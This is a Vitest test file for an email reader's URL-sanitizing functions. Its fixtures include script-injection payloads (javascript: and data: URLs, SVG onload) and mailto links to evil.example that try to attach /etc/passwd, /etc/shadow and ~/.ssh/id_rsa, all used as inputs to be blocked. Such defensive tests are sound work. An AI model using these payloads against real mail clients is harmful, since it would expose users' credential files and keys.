// URL classification as the browser parses it (docs/security.md #43, #46; payload class 2).
import { describe, expect, it } from 'vitest';
import {
  classifyUrl,
  parseSrcset,
  stripMailtoAttachments,
} from '../../../client/reader/url-policy.ts';

describe('classifyUrl', () => {
  it.each([
    ['https://example.com/a', 'remote', 'https://example.com/a'],
    ['HTTP://EXAMPLE.COM', 'remote', 'http://example.com/'],
    ['  https://example.com/x  ', 'remote', 'https://example.com/x'],
    ['//example.com/x', 'remote', 'https://example.com/x'],
    ['mailto:a@example.com', 'mailto', 'mailto:a@example.com'],
    ['cid:part@x', 'cid', 'cid:part@x'],
    ['data:image/png;base64,AAAA', 'data-image', 'data:image/png;base64,AAAA'],
    ['DATA:image/gif,xyz', 'data-image', 'data:image/gif,xyz'],
  ])('%j is %s', (value, kind, url) => {
    expect(classifyUrl(value)).toEqual({ kind, url });
  });

  it.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    ' javascript:alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'data:image/s vg+xml;base64,AAAA',
    'relative.png',
    '/absolute/path.png',
    '#fragment',
    '?query',
    'ftp://example.com/',
    'file:///etc/passwd',
    'blob:https://example.com/uuid',
    'https://',
    '',
  ])('blocks %j', (value) => {
    expect(classifyUrl(value)).toEqual({ kind: 'blocked', url: '' });
  });
});

describe('parseSrcset', () => {
  it('finds every candidate URL, including ones with commas', () => {
    expect(parseSrcset('a.png 1x, https://x/b,c.png 2x,d.png,  e.png 100w')).toEqual([
      { url: 'a.png', descriptor: '1x' },
      { url: 'https://x/b,c.png', descriptor: '2x' },
      { url: 'd.png', descriptor: '' },
      { url: 'e.png', descriptor: '100w' },
    ]);
  });

  it('copes with empty and comma-only values', () => {
    expect(parseSrcset('')).toEqual([]);
    expect(parseSrcset(' , ,, ')).toEqual([]);
  });
});

describe('stripMailtoAttachments', () => {
  it.each([
    ['mailto:x@evil.example?attach=/etc/passwd&subject=hi', 'mailto:x@evil.example?subject=hi'],
    ['mailto:a@evil.example?Attachment=%2Fetc%2Fshadow', 'mailto:a@evil.example'],
    [
      'mailto:a@evil.example?%61ttach=x&ATTACH=y&cc=b@evil.example',
      'mailto:a@evil.example?cc=b@evil.example',
    ],
    [
      'mailto:?to=a@evil.example&attach=~/.ssh/id_rsa&body=a+b%20c',
      'mailto:?to=a@evil.example&body=a+b%20c',
    ],
  ])('drops attach fields from %j', (url, expected) => {
    expect(stripMailtoAttachments(url)).toBe(expected);
  });

  it.each([
    'mailto:a@example.com',
    'mailto:a@example.com?subject=attach%20this&body=attach=me',
    'mailto:a@example.com?attachments=1',
    'https://example.com/?attach=1',
  ])('leaves %j as it is', (url) => {
    expect(stripMailtoAttachments(url)).toBe(url);
  });
});
